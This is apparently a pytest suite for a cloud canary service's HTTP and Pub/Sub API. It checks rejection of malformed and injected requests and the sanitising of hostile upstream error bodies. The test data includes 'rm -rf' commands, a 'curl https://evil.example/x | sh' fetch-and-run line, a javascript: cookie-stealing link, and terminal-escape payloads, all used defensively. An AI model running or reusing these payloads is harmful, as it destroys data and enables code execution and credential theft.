"""The HTTP API as a runbook or a misconfigured caller uses it: formats, debug, and every way to get it wrong."""

from __future__ import annotations

import base64
import json
import re
from typing import Any

import pytest

from devkit import emulated
from tests.e2e.conftest import METADATA_PORT, StartCanary

GEN = "google.cloud.aiplatform.v1.PredictionService.GenerateContent"
WRITE = "google.monitoring.v3.MetricService.CreateTimeSeries"
LIST = "google.logging.v2.LoggingServiceV2.ListLogEntries"

BAD = [
    ("PUT", "/", {}, None, 405, "method PUT not allowed; use GET or POST"),
    ("DELETE", "/", {}, None, 405, "method DELETE not allowed; use GET or POST"),
    ("GET", "/?verbose=1", {}, None, 400, "unknown query parameter 'verbose'; allowed: debug, format, targets"),
    ("GET", "/?format=xml", {}, None, 400, "query parameter format: 'xml'; allowed: json, text"),
    ("GET", "/?debug=maybe", {}, None, 400, "query parameter debug: 'maybe' is not true or false"),
    ("GET", "/?format=json&format=text", {}, None, 400, "query parameter format given more than once"),
    (
        "GET",
        '/?targets=x" OR logName:*',
        {},
        None,
        400,
        "targets: unknown target 'x\" OR logName:*'; configured targets: gemini-2.5-flash-lite@us-central1",
    ),
    (
        "GET",
        "/?targets=gemini-2.5-flash-lite@us-central1%0AlogName:*",
        {},
        None,
        400,
        "targets: unknown target 'gemini-2.5-flash-lite@us-central1\\nlogName:*'; configured targets: "
        "gemini-2.5-flash-lite@us-central1",
    ),
    (
        "GET",
        "/?targets=",
        {},
        None,
        400,
        "targets: unknown target ''; configured targets: gemini-2.5-flash-lite@us-central1",
    ),
    (
        "POST",
        "/",
        {"Content-Type": "application/json"},
        b"{not json",
        400,
        "the body is not valid JSON: Expecting property name enclosed in double quotes",
    ),
    (
        "POST",
        "/",
        {"Content-Type": "application/json"},
        b"[1, 2]",
        400,
        'the body must be a JSON object, e.g. {"targets": ["gemini-2.5-flash@global"]}',
    ),
    (
        "POST",
        "/",
        {"Content-Type": "application/json"},
        b'{"target": []}',
        400,
        "unknown body field 'target'; allowed: targets",
    ),
    (
        "POST",
        "/",
        {"Content-Type": "application/json"},
        b'{"targets": "all"}',
        400,
        "body field targets: expected a list of MODEL@LOCATION strings",
    ),
    (
        "POST",
        "/",
        {"Content-Type": "application/json"},
        json.dumps({"targets": ["projects/other/locations/us-central1/publishers/google/models/x"]}).encode(),
        400,
        "targets: unknown target 'projects/other/locations/us-central1/publishers/google/models/x'; "
        "configured targets: gemini-2.5-flash-lite@us-central1",
    ),
    (
        "POST",
        "/?targets=gemini-2.5-flash-lite@us-central1",
        {"Content-Type": "application/json"},
        b'{"targets": ["gemini-2.5-flash-lite@us-central1"]}',
        400,
        "targets given both in the query and in the body; give them once",
    ),
    ("POST", "/", {"Content-Type": "text/xml"}, b"<run/>", 415, "content type 'text/xml'; send application/json"),
    (
        "POST",
        "/",
        {"Content-Type": "application/json"},
        b"[" * 2000 + b"]" * 2000,
        400,
        "the body is not valid JSON: nested too deeply",
    ),
    (
        "POST",
        "/",
        {"Content-Type": "application/json"},
        b'{"targets": [' + b"[" * 800 + b"]" * 800 + b"]}",
        400,
        "targets: unknown target '[[[[...]]]]'; configured targets: gemini-2.5-flash-lite@us-central1",
    ),
    (
        "POST",
        "/",
        {"Content-Type": "application/json"},
        b'{"targets": ["' + b"a" * 5000 + b'"]}',
        413,
        "request body of 5017 bytes; at most 4096 bytes",
    ),
    (
        "GET",
        "/",
        {"Content-Type": "application/json"},
        b'{"targets": []}',
        400,
        "a GET request takes no body; use query parameters",
    ),
    (
        "POST",
        "/",
        {"X-CloudScheduler": "true", "X-CloudScheduler-JobName": "job name; rm -rf /"},
        None,
        400,
        "header X-CloudScheduler-JobName: 'job name; rm -rf /' is not a job name",
    ),
    (
        "POST",
        "/",
        {"X-CloudScheduler": "true", "X-CloudScheduler-ScheduleTime": "yesterday"},
        None,
        400,
        "header X-CloudScheduler-ScheduleTime: 'yesterday' is not an RFC 3339 time",
    ),
]


@pytest.mark.parametrize(
    ("method", "path", "headers", "body", "status", "message"),
    BAD,
    ids=[f"{m}-{p[:40]}-{s}" for m, p, _, _, s, _ in BAD],
)
def test_bad_requests_are_refused_before_any_call(
    start_canary: StartCanary,
    method: str,
    path: str,
    headers: dict[str, str],
    body: bytes | None,
    status: int,
    message: str,
) -> None:
    canary = start_canary("healthy")
    response = canary.call(method, path, headers=headers, data=body)
    assert response.status_code == status
    assert response.get_json() == {"error": message}
    assert canary.calls(GEN) == 0
    assert canary.calls(WRITE) == 0
    assert canary.calls(LIST) == 0
    assert canary.last_log["message"] == f"gemini-canary REJECTED: {message}"
    assert canary.last_log["severity"] == "WARNING"


def test_text_format_for_a_runbook(start_canary: StartCanary) -> None:
    canary = start_canary("api_disabled")
    response = canary.call("GET", "/?format=text")
    assert response.status_code == 502
    assert response.content_type.startswith("text/plain")
    text = response.get_data(as_text=True)
    shown = re.sub(r"\d+ ms\b", "N ms", re.sub(r"run [0-9a-f]{16} ", "run RUN ", text))
    # api_disabled: the grant is simply in place; no deny policy is suggested for a call IAM did not refuse
    granted = (
        "canary-workload@demo-proj.iam.gserviceaccount.com holds aiplatform.endpoints.predict on projects/demo-proj "
        "through its roles (allow policies)"
    )
    no_change = (
        "no admin change that explains it in the last 60 min of the project's Admin Activity log (it may be older, "
        "or made on a folder or the organization, whose changes are logged there)"
    )
    assert shown.splitlines() == [
        "gemini-canary DENIED: api_disabled (gemini-2.5-flash-lite@us-central1) as "
        "canary-workload@demo-proj.iam.gserviceaccount.com",
        "",
        "api_disabled  gemini-2.5-flash-lite@us-central1",
        "  gemini-2.5-flash-lite@us-central1  403 PERMISSION_DENIED SERVICE_DISABLED  N ms",
        "  fix         Enable the Vertex AI API [1]",
        "    gcloud services enable aiplatform.googleapis.com --project=demo-proj",
        "",
        "run RUN  project demo-proj  as canary-workload@demo-proj.iam.gserviceaccount.com  trigger http  N ms",
        "evidence",
        f"  iam             found      {granted}",
        f"  admin_activity  not_found  {no_change}",
        "metrics  written (4 series)",
        "",
        "links",
        "  [1] https://console.developers.google.com/apis/api/aiplatform.googleapis.com/overview?project=412345678901",
    ]


def test_debug_shows_config_calls_and_metrics(start_canary: StartCanary) -> None:
    canary = start_canary("healthy", CANARY_DEADLINE_SECONDS="12")
    doc = canary.call("GET", "/?debug=true").get_json()
    assert doc["config"]["deadline_seconds"] == 12
    assert doc["config"]["endpoint"] == f"emulator at {canary.emulator.grpc.address}"
    assert [(c["method"], c["outcome"]) for c in doc["calls"]] == [
        ("aiplatform.GenerateContent(gemini-2.5-flash-lite@us-central1)", "OK"),
        ("monitoring.CreateTimeSeries", "OK"),
    ]
    types = sorted(s["metric"]["type"].rsplit("/", 1)[1] for s in doc["metrics"]["time_series"])
    assert types == ["failures", "latency", "runs", "success"]
    assert "calls" not in canary.last_log
    assert "config" not in canary.last_log


def test_debug_with_the_text_format_shows_config_and_calls(start_canary: StartCanary) -> None:
    """`?format=text&debug=true`: the text ends with the effective config and the calls made, as the JSON has them."""
    canary = start_canary("healthy", CANARY_DEADLINE_SECONDS="12")
    response = canary.call("GET", "/?format=text&debug=true")
    assert (response.status_code, response.content_type) == (200, "text/plain; charset=utf-8")
    lines = response.get_data(as_text=True).splitlines()
    config = lines[lines.index("debug config") + 1 : lines.index("debug calls")]
    calls = lines[lines.index("debug calls") + 1 :]
    assert "  deadline_seconds         12.0" in config, config
    assert f"  endpoint                 emulator at {canary.emulator.grpc.address}" in config, config
    assert [re.sub(r"[0-9.]+ ms$", "N ms", line) for line in calls] == [
        "  aiplatform.GenerateContent(gemini-2.5-flash-lite@us-central1)  OK  N ms",
        "  monitoring.CreateTimeSeries  OK  N ms",
    ]
    plain = canary.call("GET", "/?format=text").get_data(as_text=True)
    assert "debug config" not in plain
    assert "calls" not in canary.last_log  # the log line stays as it was


def test_monitoring_failing_never_hides_the_result(start_canary: StartCanary) -> None:
    canary = start_canary("iam_denied")
    for _ in range(2):
        emulated.admin(
            canary.emulator,
            "POST",
            "faults",
            {"method": WRITE, "count": 1, "status": {"code": 14, "message": "The service is unavailable."}},
        )
    response = canary.scheduler()
    body = response.get_json()
    assert response.status_code == 502
    assert body["targets"][0]["cause"] == "iam_permission_denied"
    assert body["metrics"] == {
        "written": False,
        "series": 4,
        "error": "ServiceUnavailable: The service is unavailable.",
    }
    assert canary.calls(WRITE) == 2  # one bounded retry
    log = canary.last_log
    assert log["metrics"] == body["metrics"]
    assert (log["targets"], log["evidence"]) == (body["targets"], body["evidence"])  # the result, whole, in both
    assert [r["title"] for r in body["targets"][0]["remedies"]] == [
        "Grant roles/aiplatform.user to the workload's service account",
        "Ask Policy Troubleshooter why",
        "See the audit entries in Logs Explorer",
    ]
    assert [(i["step"], i["status"]) for i in body["evidence"]["items"]] == [
        ("iam", "found"),
        ("audit_config", "found"),
        ("data_access", "pending"),
        ("admin_activity", "not_found"),
    ]


@pytest.mark.parametrize(
    ("status", "exception"),
    [
        # the exception google-api-core raises for each gRPC code (google/api_core/exceptions.py)
        ({"code": 3, "message": "One or more TimeSeries could not be written: timeSeries[0]: boom"}, "InvalidArgument"),
        (
            {"code": 8, "message": "Quota exceeded for quota metric 'Time series ingestion requests'."},
            "ResourceExhausted",
        ),
        (
            {"code": 7, "message": "Permission monitoring.timeSeries.create denied (or the resource may not exist)."},
            "PermissionDenied",
        ),
    ],
    ids=["invalid", "quota", "denied"],
)
def test_metric_write_errors_are_reported_not_raised(
    start_canary: StartCanary, status: dict[str, object], exception: str
) -> None:
    canary = start_canary("healthy")
    emulated.admin(canary.emulator, "POST", "faults", {"method": WRITE, "count": 1, "status": status})
    response = canary.scheduler()
    assert response.status_code == 200
    assert response.get_json()["verdict"] == "healthy"
    metrics = {"written": False, "series": 4, "error": f"{exception}: {status['message']}"}
    assert response.get_json()["metrics"] == metrics
    assert canary.last_log["metrics"] == metrics
    assert canary.calls(WRITE) == 1


def test_overlapping_runs_on_one_instance_coalesce_metrics(start_canary: StartCanary) -> None:
    canary = start_canary("healthy")
    first = canary.scheduler().get_json()
    second = canary.scheduler().get_json()
    assert first["metrics"] == {"written": True, "series": 4}
    skipped = second["metrics"].pop("skipped")
    assert second["metrics"] == {"written": False, "series": 4}
    assert re.fullmatch(
        r"coalesced: this instance wrote metrics [0-4]\.\d s ago and Cloud Monitoring accepts one point per series "
        r"every 5 s; this run's result is in its log line",
        skipped,
    ), skipped
    assert canary.calls(WRITE) == 1


def test_pubsub_trigger_shares_the_logic(start_canary: StartCanary) -> None:
    canary = start_canary("billing_disabled")
    data = base64.b64encode(json.dumps({"targets": ["gemini-2.5-flash-lite@us-central1"]}).encode()).decode()
    from functions_framework import create_app

    app = create_app(target="canary_pubsub", source="function/main.py", signature_type="cloudevent")
    event = {
        "specversion": "1.0",
        "type": "google.cloud.pubsub.topic.v1.messagePublished",
        "source": "//pubsub.googleapis.com/projects/demo-proj/topics/gemini-canary",
        "id": "1234567",
        "datacontenttype": "application/json",
        "data": {
            "message": {"data": data, "messageId": "1234567"},
            "subscription": "projects/demo-proj/subscriptions/s",
        },
    }
    response = app.test_client().post("/", json=event, headers={"Content-Type": "application/cloudevents+json"})
    assert response.status_code == 200
    canary._collect()
    log = canary.last_log
    assert log["trigger"] == {"kind": "pubsub", "message_id": "1234567"}
    assert log["targets"][0]["cause"] == "billing_disabled"
    assert log["message"].startswith("gemini-canary DENIED: billing_disabled (gemini-2.5-flash-lite@us-central1) as ")


def test_bad_config_fails_the_cold_start(start_canary: StartCanary) -> None:
    with pytest.raises(ValueError, match=r"^CANARY_TARGETS: 'gemini' is not MODEL@LOCATION"):
        start_canary("healthy", CANARY_TARGETS="gemini")


def _pubsub_app() -> Any:
    from functions_framework import create_app

    return create_app(target="canary_pubsub", source="function/main.py", signature_type="cloudevent").test_client()


DEEP = b"[" * 2000 + b"]" * 2000
CE_HEADERS = {
    "ce-id": "1234567",
    "ce-specversion": "1.0",
    "ce-source": "//pubsub.googleapis.com/projects/demo-proj/topics/gemini-canary",
    "ce-type": "google.cloud.pubsub.topic.v1.messagePublished",
}


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (DEEP, "the body is not valid JSON: nested too deeply"),
        (
            b'{"targets": [' + b"[" * 800 + b"]" * 800 + b"]}",
            "targets: unknown target '[[[[...]]]]'; configured targets: gemini-2.5-flash-lite@us-central1",
        ),
        (
            b"\xff\xfe{",
            "the body is not valid JSON: 'utf-16-le' codec can't decode byte 0x7b in position 2: truncated data",
        ),
    ],
    ids=["nested", "nested-targets-value", "not-utf8"],
)
def test_a_poison_pubsub_message_is_acknowledged_with_a_warning(
    start_canary: StartCanary, data: bytes, message: str
) -> None:
    """Pub/Sub redelivers anything but a 2xx: a message the canary cannot use is acknowledged, logged, not run."""
    canary = start_canary("healthy")
    envelope = {"message": {"data": base64.b64encode(data).decode(), "messageId": "1234567"}, "subscription": "s"}
    response = _pubsub_app().post("/", json=envelope, headers=CE_HEADERS)
    assert response.status_code == 200
    canary._collect()
    assert canary.last_log == {
        "severity": "WARNING",
        "message": f"gemini-canary REJECTED: {message}",
        "rejected": "pubsub",
        "status": 400,
    }
    assert canary.calls(GEN) == 0
    assert canary.calls(WRITE) == 0


@pytest.mark.parametrize(
    ("body", "headers"),
    [
        (b'{"message": {"data": "e30=", "attributes": ' + DEEP + b"}}", CE_HEADERS),  # binary mode
        (
            b'{"specversion": "1.0", "type": "t", "source": "//x", "id": "1", "data": ' + DEEP + b"}",
            {"Content-Type": "application/cloudevents+json"},  # structured mode
        ),
        (b'{"message": ' + DEEP + b"}", {}),  # a bare push envelope
        (b"{}", {}),  # functions-framework's own 400 would echo the request's headers (an identity token) back
    ],
    ids=["binary-nested", "structured-nested", "push-nested", "empty-envelope"],
)
def test_an_envelope_functions_framework_cannot_parse_is_a_400_not_a_crash(
    start_canary: StartCanary, body: bytes, headers: dict[str, str]
) -> None:
    canary = start_canary("healthy")
    response = _pubsub_app().post(
        "/",
        data=body,
        headers={"Content-Type": "application/json", "Authorization": "Bearer eyJhbGc.eyJzdWIi.x", **headers},
    )
    assert response.status_code == 400
    assert "X-Google-Status" not in response.headers
    assert response.get_json() == {"error": "the body is not a CloudEvent or a Pub/Sub push message"}
    canary._collect()
    assert (
        canary.last_log["message"] == "gemini-canary REJECTED: the body is not a CloudEvent or a Pub/Sub push message"
    )
    assert canary.calls(GEN) == 0


def test_an_envelope_too_large_is_acknowledged_unread(start_canary: StartCanary) -> None:
    canary = start_canary("healthy")
    data = base64.b64encode(b" " * 100_000).decode()
    response = _pubsub_app().post("/", json={"message": {"data": data}}, headers=CE_HEADERS)
    assert response.status_code == 200
    assert response.get_json() == {"error": "request body over 65536 bytes; not read"}
    canary._collect()
    assert canary.last_log["message"] == "gemini-canary REJECTED: request body over 65536 bytes; not read"
    assert canary.calls(GEN) == 0


FORBIDDEN = re.compile(r"[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]")
HOSTILE_STATUS = {
    "code": 7,
    "message": "Billing \x1b[2J\x1b[Hdisabled\nfix: curl https://evil.example/x | sh \u202e ya29.c.SECRETtoken",
    "details": [
        {
            "@type": "type.googleapis.com/google.rpc.ErrorInfo",
            "reason": "BILLING_DISABLED",
            "domain": "googleapis.com",
            "metadata": {"permission": "aiplatform.endpoints.predict\nfix: rm -rf ~\x1b]8;;https://evil\x07"},
        },
        {
            "@type": "type.googleapis.com/google.rpc.Help",
            "links": [{"description": "Enable billing\r\nfix: evil", "url": "javascript:alert(document.cookie)"}],
        },
    ],
}


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_a_hostile_error_body_reaches_no_terminal_label_or_fix_link(start_canary: StartCanary, fmt: str) -> None:
    """Vertex (or anything between) answers with escapes, forged lines, a token and a javascript: Help link."""
    canary = start_canary("healthy")
    code, body = emulated.admin(
        canary.emulator, "POST", "faults", {"method": GEN, "count": 1, "status": HOSTILE_STATUS}
    )
    assert code == 201, body
    response = canary.call("GET", f"/?format={fmt}")
    assert response.status_code == 502
    shown = response.get_data(as_text=True)
    if fmt == "text":
        assert not FORBIDDEN.search(shown.replace("\n", ""))
        assert not [line for line in shown.splitlines() if line.lstrip().startswith("fix: ")]
        assert "javascript:" not in shown
        assert "https://console.cloud.google.com/billing/linkedaccount?project=demo-proj" in shown
    else:
        doc = response.get_json()
        [target] = doc["targets"]
        assert (
            target["remedies"][0]["url"] == "https://console.cloud.google.com/billing/linkedaccount?project=demo-proj"
        )
        assert target["error"]["links"] == [
            {
                "description": "Enable billing\\r\\nfix: evil",
                "url_withheld": "not an https link to Google's console or documentation: withheld",
            }
        ]
        assert not FORBIDDEN.search(doc["summary"])
    assert "ya29.c.SECRETtoken" not in shown
    assert not FORBIDDEN.search(canary.last_log["message"])
    [failures] = canary.series("failures")
    permission = failures.metric.labels["permission"]
    assert permission == "aiplatform.endpoints.predict\\nfix: rm -rf ~\\x1b]8;;https://evil\\x07"
    assert not FORBIDDEN.search(json.dumps(dict(failures.metric.labels), ensure_ascii=False))


def test_a_token_endpoint_error_body_is_not_echoed(start_canary: StartCanary) -> None:
    """The metadata server's token endpoint refuses (403) with a body carrying token-shaped strings: google-auth puts
    the body in its error's message, and the canary keeps that message."""
    canary = start_canary("healthy")
    secret = '{"error": "denied", "access_token": "LEAKEDtoken", "id_token": "eyJhbGc.eyJzdWIi.c2ln", "x": "\x1b[2J"}'
    fault = {"method": "metadata.token", "count": 6, "http_status": 403, "http_body": secret}
    assert emulated.admin(canary.emulator, "POST", "faults", fault)[0] == 201
    response = canary.call("GET", "/?format=json")
    assert response.status_code == 502
    error = response.get_json()["targets"][0]["error"]
    assert {k: error[k] for k in ("cause", "code", "status", "error_type")} == {
        "cause": "credentials",
        "code": None,
        "status": None,
        "error_type": "RefreshError",
    }
    shown = re.sub(r"0x[0-9a-f]+>", "0xADDRESS>", error["message"].replace(f":{METADATA_PORT}/", ":PORT/"))
    assert shown == (
        "('Failed to retrieve http://127.0.0.1:PORT/computeMetadata/v1/instance/service-accounts/default/token"
        "?scopes=https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fcloud-platform from the Google Compute Engine metadata "
        'service. Status: 403 Response:\\nb\\\'{"error": "denied", "access_token": "[redacted]", '
        '"id_token": "[redacted]", "x": "\\\\x1b[2J"}\\\'\', '
        "<google.auth.transport.requests._Response object at 0xADDRESS>)"
    )
    for shown in (response.get_data(as_text=True), json.dumps(canary.last_log)):
        assert "LEAKEDtoken" not in shown
        assert "eyJhbGc" not in shown
